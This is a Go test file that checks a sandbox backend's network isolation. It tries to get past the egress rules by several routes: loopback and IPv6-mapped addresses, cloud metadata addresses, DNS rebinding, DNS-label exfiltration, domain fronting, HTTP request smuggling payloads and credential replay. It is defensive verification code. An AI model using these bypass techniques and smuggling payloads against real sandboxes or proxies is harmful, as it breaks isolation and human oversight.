package verify

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"strings"
	"time"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/sys/unix"

	"github.com/bailey-platform/bailey/sandbox"
)

// noRules says why a check of network rules is not for a backend that keeps none. One
// without isolation is attacked all the same, as that must show.
func noRules(r sandbox.Report) string {
	if !r.Network && r.Isolation != sandbox.NoIsolation {
		return "the backend gives boxes no network here, so there are no rules to get around"
	}
	return ""
}

// unvisited judges that nobody came to the laboratory for whom want is true.
func unvisited(want func(visit) bool) func(*host, outcome) outcome {
	return func(h *host, out outcome) outcome {
		if v := h.lab.seen(want); len(v) > 0 {
			return broken("the laboratory saw %v; the box: %s", v[0], out.Saw)
		}
		return out
	}
}

// anybody is every visit.
func anybody(visit) bool { return true }

// toName is every visit that asks for a host which is not to be reached.
func toName(name string) func(visit) bool {
	return func(v visit) bool {
		return strings.TrimSuffix(v.name, ".") == name || strings.HasPrefix(v.to, labNames[name]+":")
	}
}

const netPatience = 5 * time.Second

var networkChecks = []check{
	{
		id: "network/control", network: true,
		tried: "reach what the rules allow: HTTP, TLS and another protocol at an allowed name",
		applies: func(r sandbox.Report) string {
			if !r.Network {
				return "the backend gives boxes no network here"
			}
			return ""
		},
		probe: func(p *prober) outcome {
			for _, try := range []struct {
				what string
				try  func() error
			}{
				{"HTTP", func() error { return wantAnswer(get("http://"+allowedName+"/", nil)) }},
				{"HTTPS", func() error { return wantAnswer(get("https://"+allowedName+"/", nil)) }},
				{"port 5432", func() error {
					conn, err := dialName(allowedName, "5432")
					if err != nil {
						return err
					}
					defer conn.Close()
					_ = conn.SetDeadline(time.Now().Add(netPatience))
					_, err = io.ReadAll(conn)
					return err
				}},
			} {
				if err := try.try(); err != nil {
					return broken("%s to %s fails, so that what follows would prove nothing: %v", try.what, allowedName, err)
				}
			}
			return held("allowed hosts are reached")
		},
	},
	{
		id: "network/host-loopback", network: true,
		tried: "connect to a service on the host's loopback, at 127.0.0.1 and by other spellings of it",
		probe: func(p *prober) outcome {
			tries := make(map[string]func() error)
			for _, addr := range []string{"127.0.0.1", "::1", "::ffff:127.0.0.1", "0.0.0.0", "127.1.2.3"} {
				tries[addr] = func() error { return connects(addr, p.facts.Port) }
			}
			return denied(tries)
		},
		judge: silent,
	},
	{
		id: "network/addresses", network: true, applies: noRules,
		tried: "connect to addresses instead of names: a foreign host's, an allowed host's own, private ones",
		probe: func(*prober) outcome {
			tries := make(map[string]func() error)
			for _, addr := range []string{deniedAddr, allowedAddr, "10.1.2.3", "192.168.0.1", "172.16.0.1", "100.64.0.1"} {
				for _, port := range []string{"80", "443", "5432"} {
					tries[net.JoinHostPort(addr, port)] = func() error { return speaks(addr, port) }
				}
			}
			return denied(tries)
		},
		judge: unvisited(anybody),
	},
	{
		id: "network/ipv6", network: true, applies: noRules,
		tried: "connect by IPv6, and to IPv4 addresses within IPv6 ones (mapped, NAT64, 6to4)",
		probe: func(*prober) outcome {
			tries := make(map[string]func() error)
			for _, addr := range []string{"2a00:1450::1", "::ffff:" + deniedAddr, "64:ff9b::1400:28", "2002:1400:28::1", "fd00::1", "fe80::1%lo"} {
				tries[addr] = func() error { return speaks(addr, "80") }
			}
			return denied(tries)
		},
		judge: unvisited(anybody),
	},
	{
		id: "network/metadata", network: true, applies: noRules,
		tried: "reach a cloud's metadata service, by its addresses and by an allowed name that leads there",
		probe: func(*prober) outcome {
			tries := make(map[string]func() error)
			for _, addr := range []string{metadataAddr, "fd00:ec2::254", "100.100.100.200", "169.254.170.2", "::ffff:169.254.169.254"} {
				tries[addr] = func() error { return speaks(addr, "80") }
			}
			tries["http://"+rebindName] = func() error { return wantAnswer(get("http://"+rebindName+"/latest/meta-data", nil)) }
			return denied(tries)
		},
		judge: unvisited(anybody),
	},
	{
		id: "network/private-name", network: true, applies: noRules,
		tried: "reach a private address by an allowed name that leads there (DNS rebinding)",
		probe: func(*prober) outcome {
			return denied(map[string]func() error{"http://" + internalName: func() error { return wantAnswer(get("http://"+internalName+"/", nil)) }})
		},
		judge: unvisited(anybody),
	},
	{
		id: "network/ports", network: true, applies: noRules,
		tried: "reach an allowed host at ports that are not",
		probe: func(*prober) outcome {
			tries := make(map[string]func() error)
			for _, port := range []string{"22", "6379", "8443"} {
				tries[port] = func() error {
					conn, err := dialName(allowedName, port)
					if err != nil {
						return err
					}
					defer conn.Close()
					return talks(conn)
				}
			}
			return denied(tries)
		},
		judge: unvisited(anybody),
	},
	{
		id: "network/udp", network: true, applies: noRules,
		tried: "send UDP, QUIC's and others'",
		probe: func(*prober) outcome {
			for _, to := range []string{allowedAddr + ":443", deniedAddr + ":4433", "20.0.0.1:123", "[2a00::1]:443"} {
				conn, err := net.Dial("udp", to)
				if err != nil {
					continue
				}
				for range 3 {
					_, _ = conn.Write(bytes.Repeat([]byte{0xc0}, 1200))
				}
				conn.Close()
			}
			time.Sleep(200 * time.Millisecond) // for what is under way to arrive
			return held("nothing was heard of it")
		},
		judge: unvisited(func(v visit) bool { return v.network == "udp" }),
	},
	{
		id: "network/icmp", network: true, applies: noRules,
		tried: "send ICMP echo requests, and raw packets",
		probe: func(*prober) outcome {
			return denied(map[string]func() error{
				"echo": func() error {
					fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, unix.IPPROTO_ICMP)
					if err != nil {
						return err
					}
					defer unix.Close(fd)
					_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 1})
					to := &unix.SockaddrInet4{Addr: [4]byte{20, 0, 0, 40}}
					if err := unix.Sendto(fd, []byte{8, 0, 0, 0, 0, 1, 0, 1}, 0, to); err != nil {
						return err
					}
					_, _, err = unix.Recvfrom(fd, make([]byte, 64), 0)
					return err
				},
				"raw": func() error {
					return opened(unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW))
				},
				"packet": func() error {
					return opened(unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0x0300))
				},
			})
		},
	},
	{
		id: "network/dns", network: true, applies: noRules,
		tried: "carry data out in the names of look-ups, by the box's resolver and by another, by UDP and by TCP",
		probe: func(*prober) outcome {
			tries := make(map[string]func() error)
			for _, server := range []string{resolverAddr, foreignDNS} {
				for _, network := range []string{"udp", "tcp"} {
					for _, name := range []string{"aGVsbG8." + deniedName, deniedName, "x.allowed.test"} {
						for kind, t := range map[string]dnsmessage.Type{"A": dnsmessage.TypeA, "TXT": dnsmessage.TypeTXT, "AAAA": dnsmessage.TypeAAAA} {
							tries[fmt.Sprintf("%s %s at %s by %s", kind, name, server, network)] = func() error {
								_, err := lookup(network, server, name, t)
								return err
							}
						}
					}
				}
			}
			return denied(tries)
		},
		judge: func(h *host, out outcome) outcome {
			if names := h.lab.lookedUp(func(name string) bool { return name != allowedName }); len(names) > 0 {
				return broken("the look-up of %q left the host; the box: %s", names[0], out.Saw)
			}
			return out
		},
	},
	{
		id: "network/names", network: true, applies: noRules,
		tried: "have a name taken for an allowed one: with a NUL, a space, odd dots, as a suffix or prefix, as a number",
		probe: func(*prober) outcome {
			tries := make(map[string]func() error)
			for _, name := range []string{
				"denied.test\x00.allowed.test", "denied.test allowed.test", "denied.test%00.allowed.test", "allowed.test.denied.test",
				"xallowed.test", "allowed.testx", "335544360", "0x14000028", "024.0.0.050", "20.0.0.40", "user@allowed.test", "allowed_test",
			} {
				tries[fmt.Sprintf("%q", name)] = func() error { _, err := lookup("udp", resolverAddr, name, dnsmessage.TypeA); return err }
			}
			return denied(tries)
		},
		judge: func(h *host, out outcome) outcome {
			if names := h.lab.lookedUp(func(string) bool { return true }); len(names) > 0 {
				return broken("the look-up of %q left the host; the box: %s", names[0], out.Saw)
			}
			return out
		},
	},
	{
		id: "network/wildcard", network: true, applies: noRules,
		tried: "reach above and below what a wildcard allows",
		probe: func(*prober) outcome {
			return denied(map[string]func() error{
				wildName:          func() error { return wantAnswer(get("http://"+wildName+"/", nil)) },
				"b.a." + wildName: func() error { return wantAnswer(get("http://b.a."+wildName+"/", nil)) },
			})
		},
		judge: unvisited(anybody),
	},
	{
		id: "network/sni", network: true, applies: noRules,
		tried: "name another host in the TLS greeting, or none (domain fronting)",
		probe: func(*prober) outcome {
			tries := make(map[string]func() error)
			for _, name := range []string{deniedName, "", otherName} {
				tries[fmt.Sprintf("%q", name)] = func() error {
					conn, err := dialName(allowedName, "443")
					if err != nil {
						return err
					}
					defer conn.Close()
					_ = conn.SetDeadline(time.Now().Add(netPatience))
					return tls.Client(conn, &tls.Config{ServerName: name, InsecureSkipVerify: true}).Handshake()
				}
			}
			return denied(tries)
		},
		judge: unvisited(func(v visit) bool { return v.network == "tls" }),
	},
	{
		id: "network/host", network: true, applies: noRules,
		tried: "ask an allowed host for another, in HTTP's Host: at once, later on the same connection, and by CONNECT",
		probe: func(*prober) outcome {
			tries := make(map[string]func() error)
			for name, text := range map[string]string{
				"Host":       "GET / HTTP/1.1\r\nHost: " + deniedName + "\r\n\r\n",
				"keep-alive": "GET / HTTP/1.1\r\nHost: " + allowedName + "\r\n\r\nGET / HTTP/1.1\r\nHost: " + deniedName + "\r\nConnection: close\r\n\r\n",
				"absolute":   "GET http://" + deniedName + "/ HTTP/1.1\r\nHost: " + allowedName + "\r\n\r\n",
				"CONNECT":    "CONNECT " + deniedName + ":443 HTTP/1.1\r\nHost: " + deniedName + ":443\r\n\r\n",
				"two Hosts":  "GET / HTTP/1.1\r\nHost: " + allowedName + "\r\nHost: " + deniedName + "\r\n\r\n",
			} {
				tries[name] = func() error { return raw(text, name == "keep-alive") }
			}
			return denied(tries)
		},
		judge: unvisited(toName(deniedName)),
	},
	{
		id: "network/smuggling", network: true, applies: noRules,
		tried: "hide a request for another host in the body of an allowed one",
		probe: func(*prober) outcome {
			inner := "GET /smuggled HTTP/1.1\r\nHost: " + deniedName + "\r\n\r\n"
			for _, text := range []string{
				fmt.Sprintf("POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n%s", allowedName, len(inner)+5, inner),
				fmt.Sprintf("POST / HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n%s", allowedName, inner),
				fmt.Sprintf("POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: 0\r\nContent-Length: %d\r\n\r\n%s", allowedName, len(inner), inner),
				fmt.Sprintf("POST / HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n%s", allowedName, inner),
				fmt.Sprintf("GET / HTTP/1.1\r\nHost: %s\r\nX: y\rGET /smuggled HTTP/1.1\rHost: %s\r\n\r\n", allowedName, deniedName),
				fmt.Sprintf("GET / HTTP/1.1\nHost: %s\n\n%s", allowedName, inner),
			} {
				_ = raw(text, true) // it is the laboratory that says what it understood
			}
			return held("no request for it arrived")
		},
		judge: unvisited(toName(deniedName)),
	},
	{
		id: "network/coalescing", network: true, applies: noRules,
		tried: "ask for another host on an HTTP/2 connection that was opened for an allowed one",
		probe: func(*prober) outcome {
			return denied(map[string]func() error{":authority": func() error {
				conn, err := dialName(openedName, "443")
				if err != nil {
					return err
				}
				defer conn.Close()
				_ = conn.SetDeadline(time.Now().Add(netPatience))
				t := tls.Client(conn, &tls.Config{ServerName: openedName, InsecureSkipVerify: true, NextProtos: []string{"h2"}})
				if err := t.Handshake(); err != nil {
					return err
				}
				if t.ConnectionState().NegotiatedProtocol != "h2" {
					return errors.New("no HTTP/2 is spoken")
				}
				// A transport that takes this connection for one to the other host.
				protocols := new(http.Protocols)
				protocols.SetHTTP2(true)
				transport := &http.Transport{
					Protocols:      protocols,
					DialTLSContext: func(context.Context, string, string) (net.Conn, error) { return t, nil },
				}
				req, err := http.NewRequest(http.MethodGet, "https://"+deniedName+"/", nil)
				if err != nil {
					return err
				}
				return wantAnswer(transport.RoundTrip(req))
			}})
		},
		judge: unvisited(toName(deniedName)),
	},
	{
		id: "network/certificate", network: true, applies: noRules,
		tried: "reach a host with a false certificate, by distrusting nothing in the box",
		probe: func(*prober) outcome {
			return denied(map[string]func() error{rogueName: func() error { return wantAnswer(get("https://"+rogueName+"/", nil)) }})
		},
		judge: unvisited(func(v visit) bool { return v.network == "https" && v.name == rogueName }),
	},
	{
		id: "network/credential", network: true,
		tried: "use a credential, and have its value sent back by the host it is for",
		applies: func(r sandbox.Report) string {
			if !r.Network {
				return "the backend gives boxes no network here"
			}
			return ""
		},
		probe: func(p *prober) outcome {
			res, err := get("https://"+openedName+"/echo", authorization)
			if err != nil {
				return broken("the host that the credential is for cannot be reached: %v", err)
			}
			defer res.Body.Close()
			body, err := io.ReadAll(io.LimitReader(res.Body, 1<<20))
			if err != nil {
				return broken("its answer cannot be read: %v", err)
			}
			var all bytes.Buffer
			_ = res.Header.Write(&all)
			all.Write(body)
			if bytes.Contains(all.Bytes(), []byte(p.facts.Lab.SecretHead+p.facts.Lab.SecretTail)) {
				return broken("the answer brought the value into the box")
			}
			return held("the answer holds the placeholder, and not the value")
		},
		judge: func(h *host, out outcome) outcome {
			if v := h.lab.seen(func(v visit) bool { return v.secret && v.network == "https" && v.name == openedName }); len(v) == 0 {
				return broken("the host did not get the value, so this proves nothing; the box: %s", out.Saw)
			}
			return out
		},
	},
	{
		id: "network/replay", network: true, applies: noRules,
		tried: "send a credential's placeholder to other hosts, in the clear, in places it is not for, and along a redirect",
		probe: func(*prober) outcome {
			said := []string{}
			for _, url := range []string{"https://" + otherName + "/echo", "http://" + allowedName + "/echo", "http://" + openedName + "/echo", "https://" + deniedName + "/"} {
				res, err := get(url, authorization)
				if err != nil {
					said = append(said, url+": refused")
					continue
				}
				res.Body.Close()
				said = append(said, fmt.Sprintf("%s: %d", url, res.StatusCode))
			}
			client := client()
			client.CheckRedirect = func(req *http.Request, _ []*http.Request) error {
				authorization(req) // as a careless client does
				return nil
			}
			if req, err := http.NewRequest(http.MethodGet, "https://"+openedName+"/redirect", nil); err == nil {
				authorization(req)
				if res, err := client.Do(req); err == nil {
					res.Body.Close()
					said = append(said, fmt.Sprintf("redirect: %d", res.StatusCode))
				} else {
					said = append(said, "redirect: refused")
				}
			}
			return held("%s", strings.Join(said, ", "))
		},
		judge: func(h *host, out outcome) outcome {
			if v := h.lab.seen(func(v visit) bool { return v.secret && !(v.network == "https" && v.name == openedName) }); len(v) > 0 {
				return broken("the value arrived with %v", v[0])
			}
			return out
		},
	},
}

// authorization adds the credential to a request as a program in a box would: from the
// environment.
func authorization(r *http.Request) {
	r.Header.Set("Authorization", "Bearer "+os.Getenv(credentialName))
}

// lookup asks a name server about a name, which may be no name at all, and returns the
// first address.
func lookup(network, server, name string, kind dnsmessage.Type) (string, error) {
	query := []byte{0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, label := range strings.Split(name, ".") {
		query = append(append(query, byte(len(label))), label...)
	}
	query = append(query, 0, byte(kind>>8), byte(kind), 0, 1)
	conn, err := net.DialTimeout(network, net.JoinHostPort(server, "53"), netPatience)
	if err != nil {
		return "", err
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(netPatience))
	if network == "tcp" {
		query = append([]byte{byte(len(query) >> 8), byte(len(query))}, query...)
	}
	if _, err := conn.Write(query); err != nil {
		return "", err
	}
	answer := make([]byte, 4096)
	n, err := conn.Read(answer)
	if err != nil {
		return "", err
	}
	answer = answer[:n]
	if network == "tcp" {
		if n < 2 {
			return "", io.ErrUnexpectedEOF
		}
		answer = answer[2:]
	}
	var p dnsmessage.Parser
	head, err := p.Start(answer)
	if err != nil {
		return "", err
	}
	if head.RCode != dnsmessage.RCodeSuccess {
		return "", errors.New(strings.TrimPrefix(head.RCode.String(), "RCode"))
	}
	if err := p.SkipAllQuestions(); err != nil {
		return "", err
	}
	for {
		h, err := p.AnswerHeader()
		if err != nil {
			return "", errors.New("an empty answer")
		}
		if h.Type == dnsmessage.TypeA {
			a, err := p.AResource()
			return netip.AddrFrom4(a.A).String(), err
		}
		if err := p.SkipAnswer(); err != nil {
			return "", err
		}
	}
}

// dialName connects to a host as a program in a box does: by the box's resolver.
func dialName(name, port string) (net.Conn, error) {
	addr, err := lookup("udp", resolverAddr, name, dnsmessage.TypeA)
	if err != nil {
		return nil, fmt.Errorf("look up %s: %w", name, err)
	}
	return net.DialTimeout("tcp", net.JoinHostPort(addr, port), netPatience)
}

// connects tries whether a connection is taken.
func connects(addr, port string) error {
	conn, err := net.DialTimeout("tcp", net.JoinHostPort(addr, port), netPatience)
	if err != nil {
		return err
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(netPatience))
	if _, err := conn.Read(make([]byte, 1)); err != nil {
		return err // it was taken by whoever guards the exits, and dropped
	}
	return nil
}

// speaks tries whether somebody answers at an address.
func speaks(addr, port string) error {
	conn, err := net.DialTimeout("tcp", net.JoinHostPort(addr, port), netPatience)
	if err != nil {
		return err
	}
	defer conn.Close()
	return talks(conn)
}

// talks reports no error if whoever is at the other end says anything.
func talks(conn net.Conn) error {
	_ = conn.SetDeadline(time.Now().Add(netPatience))
	if _, err := io.WriteString(conn, "GET / HTTP/1.0\r\n\r\n"); err != nil {
		return err
	}
	_, err := conn.Read(make([]byte, 1))
	return err
}

// raw sends text to the allowed host and reports no error if it is answered with
// success, once or, if twice, two times.
func raw(text string, twice bool) error {
	conn, err := dialName(allowedName, "80")
	if err != nil {
		return err
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(netPatience))
	if _, err := io.WriteString(conn, text); err != nil {
		return err
	}
	answers := bufio.NewReader(conn)
	for range map[bool]int{false: 1, true: 2}[twice] {
		res, err := http.ReadResponse(answers, nil)
		if err != nil {
			return err
		}
		_, _ = io.Copy(io.Discard, res.Body)
		res.Body.Close()
		if res.StatusCode != http.StatusOK {
			return fmt.Errorf("HTTP %d", res.StatusCode)
		}
	}
	return nil
}

// client makes requests by the box's resolver, and trusts every certificate: what it is
// told to trust is not what keeps a box in.
func client() *http.Client {
	return &http.Client{
		Timeout: 2 * netPatience,
		Transport: &http.Transport{
			DisableKeepAlives: true,
			TLSClientConfig:   &tls.Config{InsecureSkipVerify: true},
			DialContext: func(_ context.Context, _, addr string) (net.Conn, error) {
				name, port, err := net.SplitHostPort(addr)
				if err != nil {
					return nil, err
				}
				return dialName(name, port)
			},
		},
	}
}

func get(url string, with func(*http.Request)) (*http.Response, error) {
	req, err := http.NewRequest(http.MethodGet, url, nil)
	if err != nil {
		return nil, err
	}
	if with != nil {
		with(req)
	}
	return client().Do(req)
}

// wantAnswer reports no error if the laboratory answers.
func wantAnswer(res *http.Response, err error) error {
	if err != nil {
		return err
	}
	defer res.Body.Close()
	body, err := io.ReadAll(io.LimitReader(res.Body, 1<<20))
	if err != nil {
		return err
	}
	if res.StatusCode != http.StatusOK || !bytes.Contains(body, []byte(answerBody)) {
		return fmt.Errorf("HTTP %d %.80q", res.StatusCode, body)
	}
	return nil
}
